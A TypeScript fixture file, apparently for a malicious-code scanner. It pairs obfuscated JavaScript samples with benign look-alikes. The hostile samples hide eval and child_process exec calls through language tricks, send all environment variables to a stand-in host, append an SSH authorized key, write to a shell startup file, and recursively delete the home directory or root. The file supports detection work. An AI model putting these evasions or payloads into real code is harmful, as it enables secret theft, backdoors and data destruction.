import type { Sample } from './sample.ts';

/** What is dangerous, carried to its call by means of the language that hide it. Written after a blind corpus showed the ways. */
export const CARRIED: readonly Sample[] = [
  {
    name: 'field of the class above',
    file: 'a.js',
    text: "class A {\n  go = eval;\n}\nclass B extends A {}\nnew B().go('1');",
  },
  {
    name: 'method of the class above',
    file: 'a.cjs',
    text: "class A {\n  load(name) {\n    return require(name);\n  }\n}\nclass B extends A {\n  run() {\n    return super.load('child_' + 'process')['ex' + 'ec']('id');\n  }\n}\nnew B().run();",
  },
  {
    name: 'cloned name',
    file: 'a.cjs',
    text: "const { m } = structuredClone({ m: 'child_process' });\nrequire(m)['ex' + 'ec']('id');",
  },
  { name: 'rest of a list', file: 'a.js', text: "const [, ...rest] = [0, eval];\nrest[0]('1');" },
  { name: 'rest of the rest', file: 'a.js', text: "const [, ...[, ...rest]] = [0, 1, eval];\nrest[0]('1');" },
  { name: 'rest of a loop', file: 'a.js', text: "for (const [, ...rest] of [[0, eval]]) rest.pop()('1');" },
  { name: 'rest of parameters', file: 'a.js', text: "((...given) => given[1](given[0]))('1', eval);" },
  { name: 'arguments', file: 'a.js', text: "(function () {\n  arguments[1](arguments[0]);\n})('1', eval);" },
  {
    name: 'arguments inside an arrow',
    file: 'a.js',
    text: "function run() {\n  return (() => arguments[0]('1'))();\n}\nrun(eval);",
  },
  { name: 'static field', file: 'a.js', text: "class Tools {\n  static go = eval;\n}\nTools.go('1');" },
  {
    name: 'private field',
    file: 'a.mjs',
    text: "class Tools {\n  #go = eval;\n  start() {\n    this.#go('1');\n  }\n}\nnew Tools().start();",
  },
  {
    name: 'field of an instance',
    file: 'a.js',
    text: "class Tools {\n  go = eval;\n}\nconst t = new Tools();\nt.go('1');",
  },
  {
    name: 'getter of a class',
    file: 'a.js',
    text: "class Tools {\n  get go() {\n    return eval;\n  }\n}\nnew Tools().go('1');",
  },
  {
    name: 'method that loads',
    file: 'a.cjs',
    text: "class Tools {\n  static load(name) {\n    return require('child_' + name);\n  }\n}\nTools.load('process')['ex' + 'ec']('id');",
  },
  {
    name: 'method of an object',
    file: 'a.cjs',
    text: "const tools = {\n  load(name) {\n    return require(`child_${name}`);\n  },\n};\ntools.load('process')['ex' + 'ec']('id');",
  },
  {
    name: 'yielded function',
    file: 'a.js',
    text: "function* each() {\n  yield eval;\n}\nfor (const go of each()) go('1');",
  },
  {
    name: 'first of a generator',
    file: 'a.js',
    text: "const each = function* () {\n  yield eval;\n};\neach().next().value('1');",
  },
  {
    name: 'name yielded in pieces',
    file: 'a.cjs',
    text: "function* name() {\n  yield 'child_';\n  yield 'process';\n}\nrequire([...name()].join(''))['ex' + 'ec']('id');",
  },
  {
    name: 'method that yields',
    file: 'a.mjs',
    text: "const tools = {\n  async *each() {\n    yield (await import('node:child_process')).execSync;\n  },\n};\nfor await (const go of tools.each()) go('id');",
  },
  {
    name: 'steps in JSON',
    file: 'a.cjs',
    text: 'for (const { m, f } of JSON.parse(\'[{"m":"child_process","f":"exec"}]\')) require(m)[f](\'id\');',
  },
  {
    name: 'name in JSON',
    file: 'a.cjs',
    text: "const { a: [name] } = JSON.parse('{\"a\":[\"child_process\"]}');\nrequire(name)['ex' + 'ec']('id');",
  },
  {
    name: 'loaded by apply',
    file: 'a.cjs',
    text: "const cp = Reflect.apply(require, null, ['child_process']);\ncp['ex' + 'ec']('id');",
  },
  {
    name: 'loaded by call',
    file: 'a.cjs',
    text: "const cp = require.call(module, 'child_process');\ncp['ex' + 'ec']('id');",
  },
  {
    name: 'loaded by the apply of a function',
    file: 'a.cjs',
    text: "require.apply(null, ['child_process'])['ex' + 'ec']('id');",
  },
  { name: 'thrown', file: 'a.js', text: "try {\n  throw eval;\n} catch (go) {\n  go('1');\n}" },
  {
    name: 'thrown in an object',
    file: 'a.js',
    text: "try {\n  throw { go: eval };\n} catch ({ go }) {\n  go('1');\n}",
  },
  {
    name: 'this of a plain function',
    file: 'a.cjs',
    text: "const g = (function () {\n  return this;\n})();\ng['ev' + 'al']('1');",
  },
  {
    name: 'global object by Function',
    file: 'a.js',
    text: "const g = Function('return this')();\ng['ev' + 'al']('1');",
  },
  {
    name: 'global object by a constructor',
    file: 'a.js',
    text: "[]['filter']['constructor']('return this')()['process'].mainModule['req' + 'uire']('child_' + 'process')['ex' + 'ec']('id');",
  },
  { name: 'joined by a template', file: 'a.js', text: "globalThis[['e', 'v', 'a', 'l'].join``]('1');" },
  {
    name: 'loaded by a template',
    file: 'a.cjs',
    text: "const load = (parts) => require(parts[0]);\nload`child_process`['ex' + 'ec']('id');",
  },
  {
    name: 'settled twice',
    file: 'a.mjs',
    text: "import('child_process')\n  .then(({ default: cp }) => cp)\n  .then((cp) => cp['exec']('id'));",
  },
  { name: 'handed to Array.from', file: 'a.js', text: "Array.from([eval], (go) => go).at(-1)('1');" },
  { name: 'handed to flatMap', file: 'a.js', text: "[eval].flatMap((go) => go('1'));" },
  { name: 'handed to reduce', file: 'a.js', text: "[eval].reduce((sum, go) => go('1'), 0);" },
  {
    name: 'environment out of a function',
    file: 'a.mjs',
    text: "import { request } from 'node:https';\nconst grab = () => Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join('&');\nrequest('https://h.example/?' + grab()).end();",
  },
  {
    name: 'evaluated by the debugger',
    file: 'a.cjs',
    text: "const { Session } = require('node:inspector');\nconst s = new Session();\ns.connect();\ns.post('Runtime.evaluate', { expression: code });",
  },
  {
    name: 'key for whoever wants to log in',
    file: 'a.cjs',
    text: "require('fs').appendFileSync(require('os').homedir() + '/.ssh/authorized_keys', key);",
  },
  {
    name: 'start file of the shell',
    file: 'a.mjs',
    text: "import { writeFile } from 'node:fs/promises';\nimport { join } from 'node:path';\nawait writeFile(join(home, '.zshrc'), line, { flag: 'a' });",
  },
  {
    name: 'home deleted',
    file: 'a.cjs',
    text: "const { rmSync } = require('fs');\nrmSync(require('os').homedir(), { recursive: true });",
  },
  {
    name: 'root deleted',
    file: 'a.mjs',
    text: "import fs from 'node:fs/promises';\nawait fs.rm('/', { recursive: true, force: true });",
  },
  {
    name: 'behind many names',
    file: 'a.js',
    text: `const names = { ${Array.from({ length: 5_000 }, (_, i) => `k${i}: ${i}`).join(', ')}, go: eval };\nObject.values(names).forEach((go) => go('1'));`,
  },
  {
    name: 'behind many elements',
    file: 'a.js',
    text: `const list = [${'String, '.repeat(5_000)}eval];\nfor (const go of list) go('1');`,
  },
  {
    name: 'behind many different ones',
    file: 'a.js',
    text: `const list = [${Array.from({ length: 300 }, (_, i) => `'s${i}', ${i}`).join(', ')}, eval];\nlist[process.argv.length]('1');\nlist.at(-1)('1');`,
  },
  {
    name: 'behind many objects',
    file: 'a.js',
    text: `const list = [${Array.from({ length: 300 }, (_, i) => `{ n: ${i} }`).join(', ')}, { n: 0, go: eval }];\nfor (const { go } of list) go?.('1');`,
  },
  {
    name: 'behind many assignments',
    file: 'a.js',
    text: `let go;\n${Array.from({ length: 300 }, (_, i) => `go = ${i};`).join('\n')}\ngo = eval;\ngo('1');`,
  },
  {
    name: 'behind many calls',
    file: 'a.js',
    text: `const run = (go) => go('1');\n${'run(String);\n'.repeat(30)}run(eval);`,
  },
];

/** The same means in honest hands. */
export const CARRIED_HARMLESS: readonly Sample[] = [
  {
    name: 'class above itself',
    file: 'a.js',
    text: "class A extends A {\n  go() {\n    return super.go('1');\n  }\n}\nclass B extends Map {\n  get(key) {\n    return super.get(key) ?? super.constructor.name;\n  }\n}\nnew A().go();\nnew B([['a', 1]]).get('a');",
  },
  {
    name: 'rest of a command line',
    file: 'a.js',
    text: 'const [name, ...rest] = process.argv.slice(2);\nconst go = { help: (...a) => console.log(a) };\ngo[name]?.(...rest);',
  },
  {
    name: 'builder',
    file: 'a.ts',
    text: 'class Query {\n  #parts: string[] = [];\n  where(part: string) {\n    this.#parts.push(part);\n    return this;\n  }\n  exec() {\n    return this.#parts.join(" and ");\n  }\n}\nnew Query().where("a").exec();',
  },
  {
    name: 'database',
    file: 'a.mjs',
    text: 'class Store {\n  #db;\n  constructor(db) {\n    this.#db = db;\n  }\n  exec(sql) {\n    return this.#db.exec(sql);\n  }\n}\nexport const open = (db) => new Store(db).exec("select 1");',
  },
  {
    name: 'counter that yields',
    file: 'a.js',
    text: 'function* ids() {\n  let n = 0;\n  while (true) yield n++;\n}\nconst next = ids();\nexport const id = () => next.next().value;',
  },
  {
    name: 'table in JSON',
    file: 'a.js',
    text: 'const t = JSON.parse(\'{"a":["x","y"],"__proto__":{"b":1}}\');\nfor (const [name, list] of Object.entries(t)) console.log(name, list);',
  },
  {
    name: 'broken JSON',
    file: 'a.js',
    text: "try {\n  JSON.parse('{');\n} catch (error) {\n  console.error(error.message, error.constructor.name);\n}",
  },
  {
    name: 'error handed on',
    file: 'a.js',
    text: 'try {\n  work();\n} catch (error) {\n  if (error.code) throw error.cause;\n  throw new Error("work failed", { cause: error });\n}',
  },
  {
    name: 'emitter that chains',
    file: 'a.js',
    text: 'function on(name, handler) {\n  this.handlers[name] = handler;\n  return this;\n}\nexport const make = () => ({ handlers: {}, on }).on("a", () => 1).on("b", () => 2);',
  },
  {
    name: 'name by a template',
    file: 'a.js',
    text: 'const css = (parts, ...values) => String.raw({ raw: parts }, ...values);\nexport const style = css`color: ${"red"}`;',
  },
  {
    name: 'settled data',
    file: 'a.mjs',
    text: "export const titles = () => fetch('https://api.example/posts').then((r) => r.json()).then((all) => all.map(({ title }) => title));",
  },
  {
    name: 'variable out of a function',
    file: 'a.mjs',
    text: 'const home = () => globalThis.process.versions.node;\nexport const ping = () => fetch(`https://api.example/?v=${home()}`);',
  },
  {
    name: 'profiler',
    file: 'a.mjs',
    text: "import { Session } from 'node:inspector/promises';\nconst session = new Session();\nsession.connect();\nawait session.post('Profiler.enable');\nawait session.post('Profiler.start');",
  },
  {
    name: 'own folder deleted',
    file: 'a.mjs',
    text: "import { rm } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nawait rm(join(homedir(), '.cache', 'my-plugin'), { recursive: true, force: true });",
  },
  {
    name: 'own settings written',
    file: 'a.mjs',
    text: "import { writeFile } from 'node:fs/promises';\nexport const save = (file, all) => writeFile(file, JSON.stringify(all, null, 2));",
  },
  {
    name: 'large table',
    file: 'a.js',
    text: `const t = { ${Array.from({ length: 5_000 }, (_, i) => `k${i}: 's${i}'`).join(', ')} };\nfor (const [name, value] of Object.entries(t)) console.log(name, value.trim());`,
  },
  {
    name: 'class with many fields',
    file: 'a.ts',
    text: 'export class Point {\n  static readonly zero = new Point(0, 0);\n  readonly x: number;\n  readonly y: number;\n  constructor(x: number, y: number) {\n    this.x = x;\n    this.y = y;\n  }\n  static of([x, y, ...rest]: number[]) {\n    return rest.length > 0 ? undefined : new this(x ?? 0, y ?? 0);\n  }\n}',
  },
];
